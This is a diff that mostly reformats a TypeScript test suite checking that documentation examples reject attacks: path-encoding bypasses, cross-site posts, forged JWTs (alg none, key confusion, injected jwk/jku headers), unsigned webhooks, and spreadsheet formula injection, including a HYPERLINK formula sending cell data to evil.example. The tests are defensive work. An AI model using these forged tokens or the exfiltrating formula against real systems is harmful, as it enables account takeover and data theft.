@@ -18,7 +18,12 @@ it.skipIf(!hasPackages)('authentication.md guards a directory, however its path 
   }
   const bo = { Authorization: 'Bearer secret-of-bo' };
   for (const path of ['/admin/sales', '/admin/sales/', '/%61dmin/sales', '/admin/s%61les'])
-    expect([path, await status(path), await status(path, 'GET', bo), await status(path, 'HEAD', bo)]).toEqual([path, 401, 403, 403]);
+    expect([path, await status(path), await status(path, 'GET', bo), await status(path, 'HEAD', bo)]).toEqual([
+      path,
+      401,
+      403,
+      403,
+    ]);
   for (const key of ['', ' ', 'undefined', 'machin', 'machine2'])
     expect([key, await status('/books', 'POST', { 'X-Key': key })]).toEqual([key, 401]);
   for (const token of ['constructor', '__proto__', 'secret-of-ad', 'SECRET-OF-ADA'])
@@ -41,7 +46,13 @@ it.skipIf(!hasPackages)('security.md refuses the requests of other sites, with o
   for (const site of ['cross-site', 'same-site', 'SAME-ORIGIN', 'none, same-origin'])
     for (const origin of ['https://evil.example', 'null', own, `${own}.evil.example`])
       expect([site, origin, await post({ Origin: origin, 'Sec-Fetch-Site': site })]).toEqual([site, origin, 403]);
-  for (const origin of ['https://evil.example', 'null', `${own}.evil.example`, `https://${own}@evil.example`, 'http://localhost:1'])
+  for (const origin of [
+    'https://evil.example',
+    'null',
+    `${own}.evil.example`,
+    `https://${own}@evil.example`,
+    'http://localhost:1',
+  ])
     expect([origin, await post({ Origin: origin })]).toEqual([origin, 403]);
   for (const method of ['PUT', 'PATCH', 'DELETE', 'PROPFIND'])
     expect([method, await post({ 'Sec-Fetch-Site': 'cross-site' }, method)]).toEqual([method, 403]);
@@ -52,60 +63,84 @@ it.skipIf(!hasPackages)('security.md takes an empty list of front ends as none',
   expect((await send(`${url}/books`, 'POST', { title: 'Dust' }, { 'Sec-Fetch-Site': 'cross-site' })).status).toBe(403);
 });
 
-it.skipIf(!hasPackages)('identity-providers.md takes no token without a user or an end, nor one that others have signed', async () => {
-  const [own, other] = [generateKeyPairSync('rsa', { modulusLength: 2048 }), generateKeyPairSync('rsa', { modulusLength: 2048 })];
-  const keys = { keys: [{ ...own.publicKey.export({ format: 'jwk' }), kid: 'one', alg: 'RS256' }] };
-  const provider = createServer((_req, res) => void res.end(JSON.stringify(keys))).listen(0);
-  onTestFinished(() => void provider.close());
-  await once(provider, 'listening');
-  const JWKS_URL = `http://localhost:${(provider.address() as AddressInfo).port}/`;
-  const { url } = await serve('identity-providers.md', { env: { JWKS_URL } });
+it.skipIf(!hasPackages)(
+  'identity-providers.md takes no token without a user or an end, nor one that others have signed',
+  async () => {
+    const [own, other] = [
+      generateKeyPairSync('rsa', { modulusLength: 2048 }),
+      generateKeyPairSync('rsa', { modulusLength: 2048 }),
+    ];
+    const keys = { keys: [{ ...own.publicKey.export({ format: 'jwk' }), kid: 'one', alg: 'RS256' }] };
+    const provider = createServer((_req, res) => void res.end(JSON.stringify(keys))).listen(0);
+    onTestFinished(() => void provider.close());
+    await once(provider, 'listening');
+    const JWKS_URL = `http://localhost:${(provider.address() as AddressInfo).port}/`;
+    const { url } = await serve('identity-providers.md', { env: { JWKS_URL } });
 
-  const right = { sub: 'ada', iss: 'https://login.example/', aud: 'https://api.example', exp: 4_102_444_800 };
-  const textOf = (claims: object, header: object): string =>
-    [header, claims].map((part) => Buffer.from(JSON.stringify(part)).toString('base64url')).join('.');
-  const signed = (claims: object, key = own.privateKey, header: object = { alg: 'RS256', kid: 'one' }): string => {
-    const text = textOf(claims, header);
-    return `${text}.${sign('sha256', Buffer.from(text), key).toString('base64url')}`;
-  };
-  const status = async (token: string): Promise<number> =>
-    (await send(`${url}/me`, 'GET', undefined, { Authorization: `Bearer ${token}` })).status;
-  expect(await status(signed(right))).toBe(200);
-  for (const missing of ['sub', 'exp', 'iss', 'aud'])
-    expect([missing, await status(signed({ ...right, [missing]: undefined }))]).toEqual([missing, 401]);
-  expect(await status(signed(right, other.privateKey))).toBe(401);
-  const { publicKey } = other;
-  const jwk = publicKey.export({ format: 'jwk' });
-  for (const header of [{ alg: 'RS256', jwk }, { alg: 'RS256', kid: 'two' }, { alg: 'RS256', kid: 'one', jku: JWKS_URL }])
-    expect(await status(signed(right, other.privateKey, header))).toBe(401);
-  expect(await status(`${textOf(right, { alg: 'none' })}.`)).toBe(401);
-  // The public key as the secret of an HMAC.
-  const text = textOf(right, { alg: 'HS256', kid: 'one' });
-  const pem = own.publicKey.export({ type: 'spki', format: 'pem' });
-  expect(await status(`${text}.${createHmac('sha256', pem).update(text).digest('base64url')}`)).toBe(401);
-});
+    const right = { sub: 'ada', iss: 'https://login.example/', aud: 'https://api.example', exp: 4_102_444_800 };
+    const textOf = (claims: object, header: object): string =>
+      [header, claims].map((part) => Buffer.from(JSON.stringify(part)).toString('base64url')).join('.');
+    const signed = (claims: object, key = own.privateKey, header: object = { alg: 'RS256', kid: 'one' }): string => {
+      const text = textOf(claims, header);
+      return `${text}.${sign('sha256', Buffer.from(text), key).toString('base64url')}`;
+    };
+    const status = async (token: string): Promise<number> =>
+      (await send(`${url}/me`, 'GET', undefined, { Authorization: `Bearer ${token}` })).status;
+    expect(await status(signed(right))).toBe(200);
+    for (const missing of ['sub', 'exp', 'iss', 'aud'])
+      expect([missing, await status(signed({ ...right, [missing]: undefined }))]).toEqual([missing, 401]);
+    expect(await status(signed(right, other.privateKey))).toBe(401);
+    const { publicKey } = other;
+    const jwk = publicKey.export({ format: 'jwk' });
+    for (const header of [
+      { alg: 'RS256', jwk },
+      { alg: 'RS256', kid: 'two' },
+      { alg: 'RS256', kid: 'one', jku: JWKS_URL },
+    ])
+      expect(await status(signed(right, other.privateKey, header))).toBe(401);
+    expect(await status(`${textOf(right, { alg: 'none' })}.`)).toBe(401);
+    // The public key as the secret of an HMAC.
+    const text = textOf(right, { alg: 'HS256', kid: 'one' });
+    const pem = own.publicKey.export({ type: 'spki', format: 'pem' });
+    expect(await status(`${text}.${createHmac('sha256', pem).update(text).digest('base64url')}`)).toBe(401);
+  },
+);
 
-it.skipIf(!hasPackages)('webhooks.md takes no request that the sender has not signed, and each event once', async () => {
-  const signature = { 'X-Signature': createHmac('sha256', 'secret-of-the-sender').update('{"id":8}').digest('hex') };
-  // Its files are of several examples.
-  const invoice = 'app/webhooks/invoice.paid@post.ts';
-  const change = (files: Record<string, string>): Record<string, string> =>
-    Object.fromEntries(Object.entries(files).filter(([file]) => !file.startsWith('app/') || file === invoice));
-  const { url, output } = await serve('webhooks.md', { change });
-  const post = async (body: object, headers: Record<string, string>): Promise<number> =>
-    (await send(`${url}/webhooks/invoice.paid`, 'POST', body, headers)).status;
-  const event = { id: 8 };
-  expect([await post(event, signature), await post(event, signature)]).toEqual([204, 204]);
-  expect(output().match(/Invoice 8 was paid/g)).toHaveLength(1);
-  const { 'X-Signature': right } = signature;
-  for (const wrong of [right.slice(0, -2), `${right}00`, right.slice(0, 2), 'zz', `zz${right.slice(2)}`])
-    expect([wrong, await post(event, { 'X-Signature': wrong })]).toEqual([wrong, 401]);
-  expect(await post({ id: 9 }, signature)).toBe(401);
-  expect(await post(event, {})).toBe(400);
-});
+it.skipIf(!hasPackages)(
+  'webhooks.md takes no request that the sender has not signed, and each event once',
+  async () => {
+    const signature = { 'X-Signature': createHmac('sha256', 'secret-of-the-sender').update('{"id":8}').digest('hex') };
+    // Its files are of several examples.
+    const invoice = 'app/webhooks/invoice.paid@post.ts';
+    const change = (files: Record<string, string>): Record<string, string> =>
+      Object.fromEntries(Object.entries(files).filter(([file]) => !file.startsWith('app/') || file === invoice));
+    const { url, output } = await serve('webhooks.md', { change });
+    const post = async (body: object, headers: Record<string, string>): Promise<number> =>
+      (await send(`${url}/webhooks/invoice.paid`, 'POST', body, headers)).status;
+    const event = { id: 8 };
+    expect([await post(event, signature), await post(event, signature)]).toEqual([204, 204]);
+    expect(output().match(/Invoice 8 was paid/g)).toHaveLength(1);
+    const { 'X-Signature': right } = signature;
+    for (const wrong of [right.slice(0, -2), `${right}00`, right.slice(0, 2), 'zz', `zz${right.slice(2)}`])
+      expect([wrong, await post(event, { 'X-Signature': wrong })]).toEqual([wrong, 401]);
+    expect(await post({ id: 9 }, signature)).toBe(401);
+    expect(await post(event, {})).toBe(400);
+  },
+);
 
 it.skipIf(!hasPackages)('exports.md writes no formula of a user into a cell', async () => {
-  const titles = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '\r=1', '＝1', 'a=1', "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"];
+  const titles = [
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    ' =1',
+    '\r=1',
+    '＝1',
+    'a=1',
+    '=HYPERLINK("http://evil.example/"&A1,"x")',
+  ];
   // The page tells readers to replace this file.
   const change = (files: Record<string, string>): Record<string, string> => ({
     ...files,
